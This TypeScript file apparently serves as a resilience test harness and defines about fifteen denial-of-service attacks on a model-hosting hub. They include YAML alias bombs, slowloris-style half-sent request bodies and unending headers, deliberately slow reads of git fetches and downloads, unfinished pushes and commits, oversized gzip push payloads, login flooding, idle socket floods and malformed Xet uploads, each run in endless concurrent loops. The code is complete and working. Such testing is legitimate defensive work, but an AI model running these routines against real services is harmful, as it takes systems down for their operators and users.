// What one caller can do to hold up a hub, each from a network that no one else is in. They go on until they are ended.
import { type ClientRequest, type IncomingMessage, request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { hostileUploads } from './hostile-xet.ts'
import { commands, none } from './packets.ts'

/** The hub under attack, as its attacker knows it. */
export interface Victim {
  url: string
  /** Of the attacker's account. */
  token: string
  /** A public repository of the attacker with `large.txt`, which stands in git, and many files. */
  repo: string
  head: string
}

type Attack = (victim: Victim) => Promise<unknown>

interface Sending {
  method?: string
  headers?: Record<string, string>
  /** All of the body, or what is sent of one that never ends. */
  body?: string | Buffer
  isHalf?: boolean
  /** Without an account. */
  isAnonymous?: boolean
  /** Takes a little of the answer now and then. */
  isSlow?: boolean
}

const attackersAddress = '127.66.6.6'

function send({ url, token }: Victim, path: string, sending: Sending): Promise<IncomingMessage | undefined> {
  const { hostname, port } = new URL(url)
  const { method = 'GET', headers = {}, body, isHalf = false, isAnonymous = false, isSlow = false } = sending
  const known = isAnonymous ? {} : { authorization: `Bearer ${token}` }
  const all = { ...known, ...headers }
  const options = { host: hostname, port, path, method, headers: all, localAddress: attackersAddress, agent: false }
  const sent = request(options)
  if (isHalf) sent.write(body ?? '')
  else sent.end(body)
  return answerTo(sent, isSlow)
}

function answerTo(sent: ClientRequest, isSlow: boolean): Promise<IncomingMessage | undefined> {
  return new Promise((resolve) => {
    const over = (answer?: IncomingMessage) => resolve(answer)
    sent.on('error', () => over())
    sent.on('close', () => over())
    sent.on('response', (answer) => {
      answer.on('error', () => undefined)
      if (isSlow) answer.on('data', () => restFor(answer))
      else answer.resume()
      answer.on('close', () => over(answer))
    })
  })
}

function restFor(answer: IncomingMessage): void {
  answer.pause()
  setTimeout(() => answer.resume(), 1000)
}

/** So many at once, each begun again when it is over. */
async function keep(times: number, once: (index: number) => Promise<unknown>): Promise<unknown> {
  return Promise.all(
    Array.from({ length: times }, async (_, index) => {
      for (;;) {
        const pause = sleep(20)
        await once(index)
        await pause
      }
    }),
  )
}

const json = { 'content-type': 'application/json' }
const type = (service: string) => ({ 'content-type': `application/x-git-${service}-request` })
let seed = 0

async function sockets(victim: Victim, times: number, text: string): Promise<unknown> {
  const { hostname, port } = new URL(victim.url)
  return keep(times, () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: attackersAddress })
    socket.on('error', () => undefined)
    socket.write(text)
    return new Promise((resolve) => socket.on('close', resolve))
  })
}

/** The address for uploads by Xet, and the token for it. */
async function xetDoor({ url, token, repo }: Victim): Promise<{ path: string; token: string }> {
  const headers = { authorization: `Bearer ${token}` }
  const reply = await fetch(`${url}/api/models/${repo}/xet-write-token/main`, { headers })
  const { casUrl, accessToken } = (await reply.json()) as { casUrl: string; accessToken: string }
  return { path: new URL(casUrl).pathname, token: accessToken }
}

/** Each by what it does. */
export const attacks: Record<string, Attack> = {
  'metadata that is a bomb': (victim) =>
    keep(20, async () => {
      const content = `---\n# ${seed++}\n${'{? '.repeat(280)}a${'}'.repeat(280)}\n---\n`
      await send(victim, '/api/validate-yaml', { method: 'POST', headers: json, body: JSON.stringify({ content }) })
    }),
  'fetches that are never asked': (victim) =>
    keep(60, () => {
      const headers = { ...type('upload-pack'), 'content-length': '1000' }
      const sending = { method: 'POST', headers, body: '0011', isHalf: true, isAnonymous: true }
      return send(victim, `/${victim.repo}.git/git-upload-pack`, sending)
    }),
  'fetches that are taken slowly': (victim) =>
    keep(30, () => {
      const want = `0032want ${victim.head}\n00000009done\n`
      const sending = { method: 'POST', headers: type('upload-pack'), body: want, isAnonymous: true, isSlow: true }
      return send(victim, `/${victim.repo}.git/git-upload-pack`, sending)
    }),
  'pushes that are never finished': (victim) =>
    keep(20, () => {
      const first = commands([{ from: none, to: victim.head, ref: 'refs/heads/never' }])
      const body = Buffer.concat([first, Buffer.alloc(1_200_000)])
      const headers = { ...type('receive-pack'), 'content-length': '90000000' }
      return send(victim, `/${victim.repo}.git/git-receive-pack`, { method: 'POST', headers, body, isHalf: true })
    }),
  'commits that are never finished': (victim) =>
    keep(20, () => {
      const header = JSON.stringify({ key: 'header', value: { summary: 'never' } })
      const body = `${header}\n{"key":"file","value":{"path":"never.bin","encoding":"base64","content":"${'A'.repeat(4_000_000)}`
      const headers = { 'content-type': 'application/x-ndjson' }
      return send(victim, `/api/models/${victim.repo}/commit/main`, { method: 'POST', headers, body, isHalf: true })
    }),
  'pushes that hold very much': (victim) => {
    const line = { from: victim.head, to: none, ref: 'refs/heads/x' }
    const body = gzipSync(commands(Array.from({ length: 300_000 }, () => line)))
    const headers = { ...type('receive-pack'), 'content-encoding': 'gzip' }
    return keep(8, () => send(victim, `/${victim.repo}.git/git-receive-pack`, { method: 'POST', headers, body }))
  },
  'downloads that are taken slowly': (victim) =>
    keep(40, () => send(victim, `/${victim.repo}/resolve/main/large.txt`, { isAnonymous: true, isSlow: true })),
  'history that is taken slowly while repositories are created': (victim) =>
    Promise.all([
      keep(16, () => send(victim, `/api/models/${victim.repo}/commits/main?limit=1000`, { isSlow: true })),
      keep(16, () => {
        const body = JSON.stringify({ name: `made-${process.pid}-${seed++}` })
        return send(victim, '/api/repos/create', { method: 'POST', headers: json, body })
      }),
    ]),
  'long lists that are taken slowly': (victim) =>
    keep(100, () => send(victim, `/api/models/${victim.repo}/tree/main?recursive=true&limit=1000`, { isSlow: true })),
  'the longest replies, again and again': (victim) =>
    keep(30, (index) => {
      const paths = [
        '/.well-known/openapi.json',
        '/api/models?full=true&cardData=true&limit=1000',
        '/api/quicksearch?q=a',
      ]
      return send(victim, paths[index % paths.length] ?? '', { isAnonymous: true })
    }),
  'bodies that are half sent': (victim) =>
    keep(300, () => {
      const headers = { ...json, 'content-length': '900000' }
      const body = Buffer.alloc(500_000, ' ')
      return send(victim, '/api/login', { method: 'POST', headers, body, isHalf: true, isAnonymous: true })
    }),
  'connections that say nothing': (victim) => sockets(victim, 1000, ''),
  'headers that never end': (victim) => sockets(victim, 500, 'GET / HTTP/1.1\r\nHost: hub\r\nX-A: '),
  'sign-ins with wrong passwords': (victim) =>
    keep(60, () => {
      const body = JSON.stringify({ username: `someone-${seed++}`, password: 'wrong wrong wrong' })
      return send(victim, '/api/login', { method: 'POST', headers: json, body, isAnonymous: true })
    }),
  'uploads by Xet that no client would send': (victim) => {
    const uploads = hostileUploads()
    return keep(20, async (index) => {
      const { path, token } = await xetDoor(victim)
      const { tail, body } = uploads[(index + seed++) % uploads.length] ?? { tail: '', body: '' }
      const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' }
      await send(victim, path + tail, { method: 'POST', headers, body })
    })
  },
  'changes of one thing, many at once': (victim) =>
    keep(60, () => {
      const body = JSON.stringify({ fullname: `Eve ${seed++}` })
      return send(victim, '/api/settings/account', { method: 'PATCH', headers: json, body })
    }),
}
